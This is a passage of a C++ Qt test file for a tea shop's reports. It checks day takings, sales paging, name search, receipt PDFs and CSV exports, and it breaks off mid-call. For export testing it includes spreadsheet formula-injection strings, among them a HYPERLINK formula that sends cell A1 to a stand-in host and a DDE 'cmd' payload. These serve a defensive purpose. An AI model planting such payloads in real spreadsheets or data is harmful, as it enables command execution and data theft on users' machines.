// The shop's books as the owner reads them: the day's takings against a day
// counted by hand, sales paged newest first, receipts read back from the PDF,
// and CSV files read back by a real CSV reader and by LibreOffice.

#include "support/Outside.h"
#include "support/TestShop.h"

#include "base/Csv.h"
#include "base/Numbers.h"
#include "books/Audit.h"
#include "books/Find.h"
#include "books/MoneyMoves.h"
#include "books/OrderStore.h"
#include "books/Payments.h"
#include "books/People.h"
#include "books/Reports.h"
#include "books/Returns.h"
#include "books/Settings.h"
#include "books/StockCount.h"
#include "books/TeaUnits.h"
#include "data/DataError.h"
#include "reports/DayReport_frm.h"
#include "reports/Losses_frm.h"
#include "reports/Receipt.h"
#include "support/Controls.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QPushButton>
#include <QScopeGuard>
#include <QStandardPaths>
#include <QTest>
#include <QUrl>
#include <QXmlStreamReader>

#include <functional>

#include <sys/stat.h>

using namespace lumaro;
using namespace lumaro::test;

namespace lumaro {
// How QCOMPARE shows an amount.
char* toString(const Money& m) { return qstrdup(m.toString().toUtf8().constData()); }
} // namespace lumaro

namespace {

Money M(double x) { return Money::fromDouble(x); }

// Runs a move, then stamps the journal rows it wrote with a local time, as if
// it had been made then.
struct Dated {
    QDateTime when;
    std::function<void(Database&)> move;
};

void run(TestShop& shop, const Dated& d)
{
    const qlonglong before =
        shop.scalar(QStringLiteral("SELECT COALESCE(MAX(日誌編號), 0) FROM 帳務日誌表")).toLongLong();
    d.move(shop.db());
    shop.exec(QStringLiteral("UPDATE 帳務日誌表 SET 時間 = ? WHERE 日誌編號 > ?"),
              {reports::journalTime(d.when), before});
}

std::function<void(Database&)> checkout(TestShop& shop, const QString& customer,
                                        const QList<std::pair<QString, int>>& lines,
                                        const OrderStore::Payment& pay = {}, const QString& discount = {})
{
    const qlonglong order = shop.order(customer);
    for (const auto& [tea, kg] : lines)
        shop.line(order, tea, kg);
    payments::setOrderDiscount(shop.db(), order, discount);
    return [order, pay](Database& db) { OrderStore::settleOrder(db, order, OrderStore::Settle{{}, {}, pay}); };
}

OrderStore::Payment paid(const QString& method, const QString& second = {}, double amount = 0,
                         std::optional<double> tendered = {})
{
    OrderStore::Payment p;
    p.method = method;
    p.second = second;
    p.secondAmount = Money::fromDouble(amount);
    if (tendered)
        p.tendered = Money::fromDouble(*tendered);
    return p;
}

// One unit of the first line of the customer's sale given back, the owner
// allowing it.
void returnOneOfFirstLine(TestShop& shop, const people::Person& owner, const QString& customer)
{
    Database& db = shop.db();
    people::Approval allowed(db, owner);
    const qlonglong order =
        shop.scalar(QStringLiteral("SELECT 訂單編號 FROM 訂單資料表 WHERE 客戶名稱 = ?"), {customer}).toLongLong();
    returns::Request r;
    r.order = order;
    r.reason = QStringLiteral("不合口味");
    r.quantities = {{returns::sale(db, order).lines[0].row, M(1)}};
    returns::returnSale(db, r);
}

// A CSV file as Python's csv module reads it, each row a list of texts.
QList<QStringList> readCsv(const QString& path)
{
    const Run python = test::run(QStringLiteral("python3"),
                                 {QStringLiteral("-c"),
                                  QStringLiteral("import csv,json,sys\n"
                                                 "with open(sys.argv[1], encoding='utf-8-sig', newline='') as f:\n"
                                                 "    print(json.dumps(list(csv.reader(f))))"),
                                  path});
    if (python.code != 0)
        qWarning() << python.err;
    QList<QStringList> rows;
    for (const QJsonValue& r : QJsonDocument::fromJson(python.out.toUtf8()).array()) {
        QStringList fields;
        for (const QJsonValue& f : r.toArray())
            fields << f.toString();
        rows << fields;
    }
    return rows;
}

int adminCode(const QStringList& args) { return test::admin(args).code; }

// What anyone may type at the counter that a spreadsheet takes for a formula,
// whole or once split at a semicolon, a tab or a line break.
QStringList formulaTexts()
{
    return texts({"=1+1", "=HYPERLINK(\"http://x/?\"&A1,\"click\")", "+886 2 1234", "-", "@SUM(A1)", "\t=1+1", "\r=1+1",
                  "'=1+1", "x;=1+1", "a\r\n=1+1", "x\t@A1"});
}
QStringList formulaTeaNumbers() { return texts({"-5", "=2+3", "@A1", "+7"}); }
const char* const kFormulaNote = "=cmd|' /C calc'!A0";

struct Exported {
    QString path;
    QStringList numberColumns;
};

// A shop whose tea numbers, tea names, customers and a cash note are all such
// texts, and its exports: the three of lumaro-admin and the day's journal from 日結.
void exportFormulaShop(TestShop& shop, QList<Exported>& files)
{
    const QStringList names = formulaTexts();
    const QStringList teas = formulaTeaNumbers();
    for (qsizetype i = 0; i < teas.size(); ++i)
        shop.tea(teas[i], names[i], 10, 12.5, 100);
    shop.balances(1000, 0);
    payments::saveMethods(shop.db(), payments::defaultMethods() << payments::Method{names[0], true, false});
    for (qsizetype i = 0; i < names.size(); ++i) {
        const qlonglong o = shop.order(names[i]);
        shop.line(o, teas[i % teas.size()], 2);
        if (i == 1)
            payments::setOrderDiscount(shop.db(), o, QStringLiteral("10%"));
        OrderStore::Payment p;
        if (i < 2)
            p.method = names[0];
        if (i == 2) { // split, the cash handed over
            p.second = names[0];
            p.secondAmount = Money::fromDouble(5);
            p.tendered = Money::fromDouble(50);
        }
        OrderStore::settleOrder(shop.db(), o, OrderStore::Settle{{}, {}, p});
    }
    money::adjust(shop.db(), Money::fromDouble(-50), QString::fromUtf8(kFormulaNote));
    for (const QString& tea : teas)
        stock::writeOff(shop.db(), tea, Money::fromDouble(1), moves::reason::Tasting, QString());

    const QStringList journalNumbers = texts({"庫存變動", "單價", "現金變動", "銀行變動", "折扣", "實收"});
    for (const auto& [what, numbers] :
         {std::pair{"catalogue", texts({"進價", "訂價", "庫存"})},
          std::pair{"sales", texts({"公斤", "單價", "小計", "折扣"})}, std::pair{"journal", journalNumbers}}) {
        const QString path = shop.folder() + QStringLiteral("/%1.csv").arg(QLatin1String(what));
        QCOMPARE(adminCode(
                     {QStringLiteral("export"), QLatin1String(what), QStringLiteral("--database"), shop.path(), path}),
                 0);
        files << Exported{path, numbers};
    }
    PromptScope prompts;
    DayReport_frm screen(shop.db());
    const QString day = shop.folder() + QStringLiteral("/day.csv");
    prompts->queueSaveFile(day);
    control<QPushButton>(&screen, "cmdExport")->click();
    QVERIFY(QFile::exists(day));
    files << Exported{day, journalNumbers};
    Losses_frm losses(shop.db());
    const QString lost = shop.folder() + QStringLiteral("/losses.csv");
    prompts->queueSaveFile(lost);
    control<QPushButton>(&losses, "cmdExport")->click();
    files << Exported{lost, texts({"數量", "成本"})};
}

} // namespace

class tst_reports : public QObject {
    Q_OBJECT
private slots:
    void initTestCase()
    {
        // Eight hours ahead of UTC: a day's takings must follow the shop's
        // clock, not the journal's UTC times.
        qputenv("TZ", "Asia/Taipei");
        tzset();
    }

    // A journal time reads as QDateTime::fromString reads it, in the shop's
    // clock, whatever shape the text has.
    void journalTimesReadAsWritten()
    {
        for (const char* raw : {"2026-12-07 18:39:03", "2024-02-29 23:59:59", "2026-12-31 16:00:00.123",
                                "2026-02-29 10:00:00", "2026-12-07 24:00:00", "2026-12-07T18:39:03",
                                "２026-12-07 18:39:03", "+026-12-07 18:39:03", "2026-1-07 18:39:03", ""}) {
            const QString text = QString::fromUtf8(raw);
            QDateTime expected = QDateTime::fromString(text.left(19), QStringLiteral("yyyy-MM-dd HH:mm:ss"));
            expected.setTimeSpec(Qt::UTC);
            QCOMPARE(reports::localTime(text), expected.toLocalTime());
        }
        const QDateTime local(QDate(2026, 1, 1), QTime(7, 59, 59));
        QCOMPARE(reports::localTime(reports::journalTime(local)), local);
        QCOMPARE(reports::journalTime(local), QStringLiteral("2025-12-31 23:59:59"));
    }

    void dayReport_data()
    {
        QTest::addColumn<int>("scenario");
        QTest::newRow("checkouts, a purchase, transfers and a count") << 0;
        QTest::newRow("yesterday and tomorrow stay out; just after midnight counts") << 1;
        QTest::newRow("cents add up exactly") << 2;
        QTest::newRow("cash, card, a split with a discount; the count sees the drawer") << 3;
    }

    // Hand-counted: A sells at 12.5 and costs 10, B sells at 30 and costs 20.
    void dayReport()
    {
        QFETCH(int, scenario);
        TestShop shop;
        shop.tea(QStringLiteral("A"), QStringLiteral("凍頂烏龍"), 10, 12.5, 100)
            .tea(QStringLiteral("B"), QStringLiteral("東方美人"), 20, 30, 50)
            .balances(1000, 500);
        const QDate day(2026, 3, 14);
        auto at = [&](int dayOffset, int h, int m) { return QDateTime(day.addDays(dayOffset), QTime(h, m)); };

        struct Expect {
            int orders;
            double takings, purchaseKg, purchaseCost, deposits, withdrawals, adjustments;
            QList<std::pair<QString, double>> soldKg;
        } e;
        if (scenario == 0) {
            run(shop, {at(0, 9, 0),
                       checkout(shop, QStringLiteral("王"), {{QStringLiteral("A"), 2}, {QStringLiteral("B"), 1}})});
            run(shop, {at(0, 11, 0), checkout(shop, QStringLiteral("李"), {{QStringLiteral("A"), 3}})});
            run(shop,
                {at(0, 12, 0), [](Database& db) { money::purchase(db, QStringLiteral("B"), Money::fromDouble(4)); }});
            run(shop, {at(0, 15, 0), [](Database& db) { money::deposit(db, Money::fromDouble(100)); }});
            run(shop, {at(0, 16, 0), [](Database& db) { money::withdraw(db, Money::fromDouble(30)); }});
            run(shop, {at(0, 18, 0),
                       [](Database& db) { money::adjust(db, Money::fromDouble(-2.5), QStringLiteral("盤點")); }});
            // 2 x 12.5 + 30 and 3 x 12.5; 4 kg of B at 20.
            e = {2, 92.5, 4, 80, 100, 30, -2.5, {{QStringLiteral("A"), 5}, {QStringLiteral("B"), 1}}};
        } else if (scenario == 1) {
            run(shop, {at(-1, 23, 59), checkout(shop, QStringLiteral("前一天"), {{QStringLiteral("B"), 2}})});
            run(shop, {at(0, 0, 1), checkout(shop, QStringLiteral("剛過午夜"), {{QStringLiteral("A"), 1}})});
            run(shop, {at(1, 0, 0), checkout(shop, QStringLiteral("隔天"), {{QStringLiteral("A"), 4}})});
            e = {1, 12.5, 0, 0, 0, 0, 0, {{QStringLiteral("A"), 1}}};
        } else if (scenario == 2) {
            shop.tea(QStringLiteral("C"), QStringLiteral("茶梗"), 0, 0.1, 10)
                .tea(QStringLiteral("D"), QStringLiteral("茶角"), 0, 0.2, 10);
            run(shop, {at(0, 9, 0), checkout(shop, QStringLiteral("一"), {{QStringLiteral("C"), 1}})});
            run(shop, {at(0, 10, 0), checkout(shop, QStringLiteral("二"), {{QStringLiteral("D"), 1}})});
            e = {2, 0.3, 0, 0, 0, 0, 0, {{QStringLiteral("C"), 1}, {QStringLiteral("D"), 1}}};
        } else {
            run(shop, {at(0, 9, 0), checkout(shop, QStringLiteral("一"), {{QStringLiteral("A"), 2}})});
            run(shop, {at(0, 10, 0),
                       checkout(shop, QStringLiteral("二"), {{QStringLiteral("B"), 2}}, paid(QStringLiteral("刷卡")))});
            // 50 + 30 less a tenth: 72, of it 30 by phone and 42 in cash from 50.
            run(shop,
                {at(0, 11, 0),
                 checkout(shop, QStringLiteral("三"), {{QStringLiteral("A"), 4}, {QStringLiteral("B"), 1}},
                          paid(QStringLiteral("現金"), QStringLiteral("行動支付"), 30, 50), QStringLiteral("10%"))});
            e = {3, 157, 0, 0, 0, 0, 0, {{QStringLiteral("A"), 6}, {QStringLiteral("B"), 3}}};
        }

        const reports::DayReport d = reports::dayReport(shop.db(), day);
        QCOMPARE(d.orders, e.orders);
        QCOMPARE(d.takings, M(e.takings));
        QCOMPARE(d.purchaseKg, e.purchaseKg);
        QCOMPARE(d.purchaseCost, M(e.purchaseCost));
        QCOMPARE(d.deposits, M(e.deposits));
        QCOMPARE(d.withdrawals, M(e.withdrawals));
        QCOMPARE(d.adjustments, M(e.adjustments));
        QCOMPARE(d.sold.size(), e.soldKg.size());
        for (int i = 0; i < e.soldKg.size(); ++i) {
            QCOMPARE(d.sold[i].tea, e.soldKg[i].first);
            QCOMPARE(d.sold[i].kg, e.soldKg[i].second);
        }
        // The day adds up, and its end is where the books stand (nothing after it).
        QCOMPARE(d.closingCash, d.openingCash + d.takings - d.takingsToBank - d.purchaseCost - d.deposits +
                                    d.withdrawals + d.adjustments);
        QCOMPARE(d.closingBank, d.openingBank + d.takingsToBank + d.deposits - d.withdrawals);
        QStringList methods;
        for (const reports::Paid& p : d.byMethod)
            methods << QStringLiteral("%1 %2 %3").arg(p.method, p.amount.toString()).arg(p.sales);
        if (scenario == 3) {
            QCOMPARE(methods, (QStringList{QStringLiteral("現金 67 2"), QStringLiteral("刷卡 60 1"),
                                           QStringLiteral("行動支付 30 1")}));
            QCOMPARE(d.takingsToBank, M(90));
            QCOMPARE(d.discounts, M(8));
            QVERIFY(DayReport_frm::reportHtml(d).contains(
                QStringLiteral("<tr><td>行動支付</td><td align=\"right\">1</td><td align=\"right\">30</td></tr>")));
            // The drawer holds what came in as cash, and a count of it finds
            // nothing missing: the card and phone takings are in the bank.
            QCOMPARE(shop.cash(), 1067.0);
            QCOMPARE(shop.bank(), 590.0);
            QCOMPARE(money::countCash(shop.db(), M(1067), M(shop.cash()), QStringLiteral("盤點")), Money());
        } else if (e.takings != 0) {
            QCOMPARE(methods.size(), 1); // the cash alone
        }
        if (scenario == 0 || scenario == 3) {
            QCOMPARE(d.closingCash - d.openingCash, M(shop.cash() - 1000));
            QCOMPARE(d.closingBank - d.openingBank, M(shop.bank() - 500));
        }
        const QList<Money> chart = reports::dailyTakings(shop.db(), day.addDays(1), 3);
        QCOMPARE(chart.size(), 3);
        QCOMPARE(chart[1], M(e.takings));
    }

    // Newest first, a page at a time, with no order lost or repeated where
    // several were settled in the same second; the customer filter takes % literally.
    void salesPages()
    {
        TestShop shop;
        shop.tea(QStringLiteral("A"), QStringLiteral("包種"), 10, 12.5, 1000).balances(0, 0);
        const QDateTime t(QDate::currentDate(), QTime(10, 0));
        QList<qlonglong> orders;
        for (int i = 0; i < 7; ++i) {
            const QString who = i % 2 ? QStringLiteral("100% 王") : QStringLiteral("1000 王");
            const qlonglong o = shop.order(who);
            shop.line(o, QStringLiteral("A"), i + 1);
            run(shop, {t.addSecs(i / 3), [o](Database& db) { OrderStore::settleOrder(db, o); }});
            orders.prepend(o);
        }
        reports::SalesFilter f{QDate::currentDate(), QDate::currentDate(), {}, {}};
        QList<qlonglong> seen;
        QString cursor;
        for (;;) {
            const QList<reports::Sale> page = reports::salesPage(shop.db(), f, 2, cursor);
            for (const reports::Sale& s : page)
                seen << s.order;
            if (page.size() < 2)
                break;
            cursor = page.last().cursor;
        }
        QCOMPARE(seen, orders);

        f.customer = QStringLiteral("100%");
        const QList<reports::Sale> some = reports::salesPage(shop.db(), f, 50);
        QCOMPARE(some.size(), 3);
        QCOMPARE(some[0].customer, QStringLiteral("100% 王"));
        QCOMPARE(some[0].total, M(6 * 12.5));

        const QList<reports::SaleLine> lines = reports::saleLines(shop.db(), orders.first());
        QCOMPARE(lines.size(), 1);
        QCOMPARE(lines[0].kg, 7.0);
        QCOMPARE(lines[0].subtotal, M(87.5));
    }

    // A customer's sales read the same whichever way they are found: through
    // the name index, by reading every name, or from the day's list with the
    // others left out; a split payment, discounts on a line and on the order,
    // a return and who made each sale included.
    void customerSalesAsTheDayLists()
    {
        TestShop shop;
        shop.tea(QStringLiteral("A"), QStringLiteral("烏龍"), 60, 100, 50).balances(500, 0);
        Database& db = shop.db();
        const people::Person owner = people::active(db).value(0);
        const people::Person amy = people::add(db, QStringLiteral("阿美"), people::Role::Clerk, QStringLiteral("a1"));
        struct SignOut {
            Database& db;
            ~SignOut() { people::signIn(db, people::Person{}); }
        } signOut{db};
        people::signIn(db, owner);
        const qlonglong split = shop.order(QStringLiteral("林先生"));
        payments::setLineDiscount(db, shop.line(split, QStringLiteral("A"), 3), QStringLiteral("7"));
        shop.line(split, QStringLiteral("A"), 1);
        payments::setOrderDiscount(db, split, QStringLiteral("5"));
        OrderStore::settleOrder(db, split,
                                OrderStore::Settle{{}, {}, paid(QStringLiteral("現金"), QStringLiteral("刷卡"), 120)});
        people::signIn(db, amy);
        checkout(shop, QStringLiteral("林小姐"), {{QStringLiteral("A"), 2}}, paid(QStringLiteral("刷卡")),
                 QStringLiteral("10"))(db);
        checkout(shop, QStringLiteral("王林先生"), {{QStringLiteral("A"), 1}})(db);
        returnOneOfFirstLine(shop, owner, QStringLiteral("林小姐"));
        auto shown = [](const QList<reports::Sale>& sales) {
            QStringList out;
            for (const reports::Sale& s : sales) {
                QStringList paidText;
                for (const reports::Paid& p : s.paid + s.refunds)
                    paidText << p.method + u' ' + p.amount.toString();
                out << QStringList{QString::number(s.order),
                                   s.customer,
                                   s.total.toString(),
                                   s.discount.toString(),
                                   s.refunded.toString(),
                                   paidText.join(u','),
                                   s.methods,
                                   s.move,
                                   s.cursor}
                           .join(u'|');
            }
            return out;
        };
        const QDate day = QDate::currentDate();
        const QList<reports::Sale> all = reports::salesPage(db, {day, day, {}, {}}, 10);
        QCOMPARE(all.size(), 3);
        for (const QVariant& who : {QVariant(), QVariant(amy.id)}) {
            for (const QString& part : texts({"林先生", "林小姐", "林", "先生", "沒有"})) {
                QList<reports::Sale> expected;
                for (const reports::Sale& s : who.isNull() ? all : reports::salesPage(db, {day, day, {}, who}, 10))
                    if (s.customer.contains(part))
                        expected << s;
                QCOMPARE(shown(reports::salesPage(db, {day, day, part, who}, 10)), shown(expected));
            }
        }
        QCOMPARE(all[2].discount, M(12));
        QCOMPARE(all[2].paid.size(), 2);
        QVERIFY(all[1].refunded != Money());
    }

    // A part of a customer's name finds the same sales on both databases,
    // through the name index or without it (one or two characters): those
    // whose name holds it, ASCII letters in either case and every other
    // character as typed, wildcards and quotes literally. The index follows a
    // name changed and an order deleted.
    void customerSearch()
    {
        TestShop shop;
        shop.tea(QStringLiteral("A"), QStringLiteral("包種"), 10, 12.5, 1000).balances(0, 0);
        QStringList names =
            texts({"王小明", "小明", "陳", "ABC Tea", "abc tea", "Mixed CaSe", "100% 純", "a_b", "axb", "it's",
                   "say \"hi\"", "back\\slash", "🍵茶友", "茶🍵", "Émile", "émile", "王小明王小明"});
        names << QString(70, u'王') + QStringLiteral("小明"); // beyond what the index reads of a name
        QHash<qlonglong, QString> customerOf;
        for (const QString& name : names) {
            const qlonglong o = shop.order(name);
            shop.line(o, QStringLiteral("A"), 1);
            OrderStore::settleOrder(shop.db(), o);
            customerOf[o] = name;
        }
        auto fold = [](QString t) {
            for (QChar& c : t)
                if (c >= u'A' && c <= u'Z')
                    c = QChar(c.unicode() + 32);
            return t;
        };
        auto check = [&](const QString& part) {
            QList<qlonglong> found, expected;
            const reports::SalesFilter f{QDate::currentDate(), QDate::currentDate(), part, {}};
            for (const reports::Sale& s : reports::salesPage(shop.db(), f, 100))
                found << s.order;
            for (auto it = customerOf.cbegin(); it != customerOf.cend(); ++it)
                if (fold(it.value()).contains(fold(part)))
                    expected << it.key();
            std::sort(found.begin(), found.end());
            std::sort(expected.begin(), expected.end());
            QVERIFY2(found == expected, qPrintable(part));
        };
        for (const QString& part :
             texts({"王",   "小明", "王小明", "小明王", "王小明x", "陳",   "abc", "ABC",  "c t",    "Tea",
                    "case", "%",    "100%",   "0% 純",  "_",       "a_b",  "'",   "it's", "\"hi\"", "\\",
                    "k\\s", "🍵",    "🍵茶",    "茶🍵",    "🍵茶友",   "mile", "ÉMI", "Émi",  "émi",    "xyz"}))
            check(part);

        const qlonglong renamed = customerOf.key(QStringLiteral("王小明"));
        shop.exec(QStringLiteral("UPDATE 訂單資料表 SET 客戶名稱 = '李大同' WHERE 訂單編號 = ?"), {renamed});
        customerOf[renamed] = QStringLiteral("李大同");
        const qlonglong gone = customerOf.key(QStringLiteral("ABC Tea"));
        shop.exec(QStringLiteral("DELETE FROM 訂單資料表 WHERE 訂單編號 = ?"), {gone});
        customerOf.remove(gone);
        for (const QString& part : texts({"王小明", "李大同", "abc"}))
            check(part);
        QVERIFY(!checkShop(shop.db()).damaged());
    }

    // The find box's tea, on both databases, through the indexes or without
    // them (one or two characters): the next in number order, going round,
    // whose number starts with the text or whose name holds it, ASCII letters
    // in either case and every other character as typed, wildcards literally.
    // The index follows a tea added, renamed, renumbered and deleted, and the
    // check finds it out of step.
    void teaFind()
    {
        TestShop shop;
        QMap<QString, QString> teas; // by number, in number order
        const QString longName = QString(70, u'長') + QStringLiteral("尾巴");
        const QStringList rows =
            texts({"A01", "烏龍茶", "a02", "Oolong Tea", "B01", "包種 100%", "b1x", "a_b", "C-3", "高山烏龍", "Émile",
                   "茶🍵", "D4", "DARJEELING", "A1", "back\\slash", "E5", "長"});
        for (qsizetype i = 0; i < rows.size(); i += 2)
            teas[rows[i]] = rows[i + 1];
        teas[QStringLiteral("Z9")] = longName;
        for (auto it = teas.cbegin(); it != teas.cend(); ++it)
            shop.tea(it.key(), it.value(), 10, 20, 0);
        auto fold = [](QString t) {
            for (QChar& c : t)
                if (c >= u'A' && c <= u'Z')
                    c = QChar(c.unicode() + 32);
            return t;
        };
        auto check = [&](const QString& text) {
            QStringList matches;
            for (auto it = teas.cbegin(); it != teas.cend(); ++it)
                if (fold(it.key()).startsWith(fold(text)) || fold(it.value()).contains(fold(text)))
                    matches << it.key();
            const QVariant first = find::nextTea(shop.db(), text);
            QCOMPARE(first.isNull() ? QString() : first.toString(), matches.value(0));
            // From each tea to the next that matches, round to the first.
            for (auto it = teas.cbegin(); it != teas.cend(); ++it) {
                QString expected = matches.value(0);
                for (const QString& m : std::as_const(matches))
                    if (m > it.key()) {
                        expected = m;
                        break;
                    }
                const QVariant next = find::nextTea(shop.db(), text, it.key());
                QVERIFY2((next.isNull() ? QString() : next.toString()) == expected,
                         qPrintable(text + QStringLiteral(" after ") + it.key()));
            }
        };
        const QStringList finds =
            texts({"a",   "A0",  "a02",  "烏龍",   "烏龍茶", "高山烏龍", "oolong", "OOLONG TEA", "g t",
                   "ng",  "%",   "100%", "_",      "a_b",    "\\",       "k\\s",   "茶🍵",        "🍵",
                   "émi", "ÉMI", "mile", "長長長", "長尾巴", "b1x",      "darj",   "沒有這種茶", "c-3"});
        for (const QString& text : finds)
            check(text);

        shop.exec(QStringLiteral("UPDATE 茶葉資料表 SET 名稱 = '凍頂' WHERE 編號 = 'A01'"));
        shop.exec(QStringLiteral("UPDATE 茶葉資料表 SET 編號 = 'F1' WHERE 編號 = 'B01'"));
        shop.exec(QStringLiteral("DELETE FROM 茶葉資料表 WHERE 編號 = 'D4'"));
        teas[QStringLiteral("A01")] = QStringLiteral("凍頂");
        teas[QStringLiteral("F1")] = teas.take(QStringLiteral("B01"));
        teas.remove(QStringLiteral("D4"));
        for (const QString& text : texts({"烏龍茶", "凍頂", "包種 1", "f1", "darj"}))
            check(text);
        const ShopCheck sound = checkShop(shop.db());
        QVERIFY2(!sound.damaged(), qPrintable(sound.integrity.join(u'\n')));
        if (!TestShop::onPostgres()) {
            shop.exec(QStringLiteral("DELETE FROM 茶葉名稱索引 WHERE 編號 = 'C-3'"));
            QVERIFY(checkShop(shop.db()).integrity.join(u'\n').contains(QStringLiteral("茶葉名稱索引")));
        }
    }

    // Past the teas looked at first, the indexes alone find the tea: on the
    // server through a part of a text of several words, then the whole text.
    // (A shorter catalogue is read whole before the indexes are asked.)
    void teaFindPastTheFirstTeas()
    {
        TestShop shop;
        for (int i = 0; i < 210; ++i)
            shop.tea(QStringLiteral("0%1").arg(i, 3, 10, QLatin1Char('0')), QStringLiteral("凍頂 %1 號").arg(i), 10, 20,
                     0);
        shop.tea(QStringLiteral("X1"), QStringLiteral("Oolong 100 號"), 10, 20, 0)
            .tea(QStringLiteral("X2"), QStringLiteral("oolong 1000 號"), 10, 20, 0);
        const QList<std::pair<QString, QString>> cases = {{QStringLiteral("OOLONG 100 號"), QStringLiteral("X1")},
                                                          {QStringLiteral("oolong 1000"), QStringLiteral("X2")},
                                                          {QStringLiteral("頂 205 號"), QStringLiteral("0205")},
                                                          {QStringLiteral("020"), QStringLiteral("0200")},
                                                          {QStringLiteral("long 10 號"), QString()},
                                                          {QStringLiteral("g 100 號x"), QString()}};
        for (const auto& [text, tea] : cases)
            QVERIFY2(find::nextTea(shop.db(), text).toString() == tea, qPrintable(text));
        // The index follows a name changed.
        shop.exec(QStringLiteral("UPDATE 茶葉資料表 SET 名稱 = '烏龍 205' WHERE 編號 = '0205'"));
        QVERIFY(find::nextTea(shop.db(), QStringLiteral("頂 205 號")).isNull());
        QCOMPARE(find::nextTea(shop.db(), QStringLiteral("烏龍 205")).toString(), QStringLiteral("0205"));
    }

    // Orders settled before the shop kept its journal come after the journal's,
    // priced at today's prices, in pages, under the customer filter, and in
    // the export; an order with journal rows is read from the journal only.
    void settledBeforeTheJournal()
    {
        TestShop shop;
        shop.tea(QStringLiteral("A"), QStringLiteral("包種"), 10, 12.5, 100)
            .tea(QStringLiteral("B"), QStringLiteral("烏龍"), 10, 30, 100)
            .balances(0, 0);
        // This shop's journal starts in 2000.
        const QDate today = QDate::currentDate();
        auto legacy = [&](const QString& who, const QVariant& date, const QString& tea, int kg) {
            const qlonglong o = shop.order(who);
            shop.line(o, tea, kg);
            shop.exec(QStringLiteral("UPDATE 訂單資料表 SET 訂單狀態 = 1, 訂購日期 = ? WHERE 訂單編號 = ?"), {date, o});
            return o;
        };
        const qlonglong older = legacy(QStringLiteral("林"), QStringLiteral("1999-12-28"), QStringLiteral("A"), 2);
        const qlonglong old = legacy(QStringLiteral("黃"), QStringLiteral("1999-12-29"), QStringLiteral("B"), 1);
        const qlonglong undated = legacy(QStringLiteral("林"), QVariant(), QStringLiteral("B"), 1);
        const qlonglong now = shop.order(QStringLiteral("林"));
        shop.line(now, QStringLiteral("A"), 1);
        OrderStore::settleOrder(shop.db(), now);
        shop.exec(QStringLiteral("UPDATE 茶葉資料表 SET 訂價 = 15 WHERE 編號 = 'A'")); // today's price

        struct Case {
            QDate from;
            QString customer;
            QList<qlonglong> orders;
            QList<Money> totals;
            QDate to = QDate::currentDate();
        };
        for (const Case& c :
             {Case{QDate(1999, 12, 1), {}, {now, old, older}, {M(12.5), M(30), M(30)}},
              Case{QDate(1999, 12, 1), QStringLiteral("林"), {now, older}, {M(12.5), M(30)}},
              Case{QDate(1999, 12, 1), {}, {older}, {M(30)}, QDate(1999, 12, 28)}, Case{today, {}, {now}, {M(12.5)}}}) {
            const reports::SalesFilter f{c.from, c.to, c.customer, {}};
            QList<qlonglong> orders;
            QList<Money> totals;
            QString cursor;
            for (int guard = 0; guard < 10; ++guard) {
                const QList<reports::Sale> page = reports::salesPage(shop.db(), f, 1, cursor);
                for (const reports::Sale& s : page) {
                    orders << s.order;
                    totals << s.total;
                    QCOMPARE(s.estimated, s.order != now);
                }
                if (page.isEmpty())
                    break;
                cursor = page.last().cursor;
            }
            QCOMPARE(orders, c.orders);
            QCOMPARE(totals, c.totals);
        }

        const QList<reports::SaleLine> lines = reports::saleLines(shop.db(), older);
        QCOMPARE(lines.size(), 1);
        QCOMPARE(lines[0].price, M(15));
        QCOMPARE(lines[0].subtotal, M(30));
        QCOMPARE(reports::saleLines(shop.db(), now)[0].price, M(12.5)); // as charged
        QVERIFY_THROWS_EXCEPTION(DataError, reports::receipt(shop.db(), older));

        const QString path = shop.folder() + QStringLiteral("/林.csv");
        QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("sales"), QStringLiteral("--customer"),
                            QStringLiteral("林"), QStringLiteral("--database"), shop.path(), path}),
                 0);
        const QList<QStringList> rows = readCsv(path);
        QCOMPARE(rows.size(), 4);
        QCOMPARE(rows[1].mid(0, 2), (QStringList{QString::number(undated), QString()}));
        QCOMPARE(rows[2].mid(0, 11),
                 (QStringList{QString::number(older), QStringLiteral("1999-12-28"), QStringLiteral("林"),
                              QStringLiteral("A"), QStringLiteral("包種"), QStringLiteral("2"), QStringLiteral("15"),
                              QStringLiteral("30"), QString(), QStringLiteral("現金"), QStringLiteral("公斤")}));
        QCOMPARE(rows[3].first(), QString::number(now));
        QCOMPARE(adminCode({QStringLiteral("export"), QStringLiteral("journal"), QStringLiteral("--customer"),
                            QStringLiteral("林"), QStringLiteral("--database"), shop.path(), path}),
                 2);
    }

    // The receipt as printed: shop, order, lines and total, read back from the PDF.
    void receiptPdf()
    {
        TestShop shop;
        shop.tea(QStringLiteral("T1"), QStringLiteral("阿里山金萱"), 10, 12.5, 100)
            .tea(QStringLiteral("T2"), QStringLiteral("文山包種"), 20, 30, 50)
            .balances(0, 0);
        settings::set(shop.db(), settings::key::ShopName, QStringLiteral("山嵐茶行"));
        settings::set(shop.db(), settings::key::ShopAddress, QStringLiteral("台北市茶街 8 號"));
        settings::set(shop.db(), settings::key::ShopPhone, QStringLiteral("02-1234-5678"));
        const qlonglong o = shop.order(QStringLiteral("陳小姐"));
        shop.line(o, QStringLiteral("T1"), 3);
        shop.line(o, QStringLiteral("T2"), 2);
        QVERIFY_THROWS_EXCEPTION(DataError, reports::receipt(shop.db(), o)); // not settled yet
        OrderStore::settleOrder(shop.db(), o);

        const QString pdf = shop.folder() + QStringLiteral("/收據.pdf");
        saveReceiptPdf(reports::receipt(shop.db(), o), pdf);
        const Run pdftotext =
            test::run(QStringLiteral("pdftotext"), {QStringLiteral("-layout"), pdf, QStringLiteral("-")});
        QCOMPARE(pdftotext.code, 0);
        const QString text = pdftotext.out.simplified();
        for (const QString& want :
             {QStringLiteral("山嵐茶行"), QStringLiteral("台北市茶街 8 號"), QStringLiteral("02-1234-5678"),
              QStringLiteral("訂單編號：%1").arg(o), QStringLiteral("陳小姐"), QStringLiteral("阿里山金萱 3 12.5 37.5"),
              QStringLiteral("文山包種 2 30 60"), QStringLiteral("總計：97.5"), QStringLiteral("付款方式：現金")})
            QVERIFY2(text.contains(want), qPrintable(want + QStringLiteral(" not in: ") + text));
        QVERIFY(!text.contains(QStringLiteral("折扣")) && !text.contains(QStringLiteral("找零")));

        // Gross, discount and net, each method's part, the cash and the change.
        const qlonglong split = shop.order(QStringLiteral("林先生"));
        shop.line(split, QStringLiteral("T1"), 4);
        payments::setOrderDiscount(shop.db(), split, QStringLiteral("5"));
        OrderStore::settleOrder(shop.db(), split,
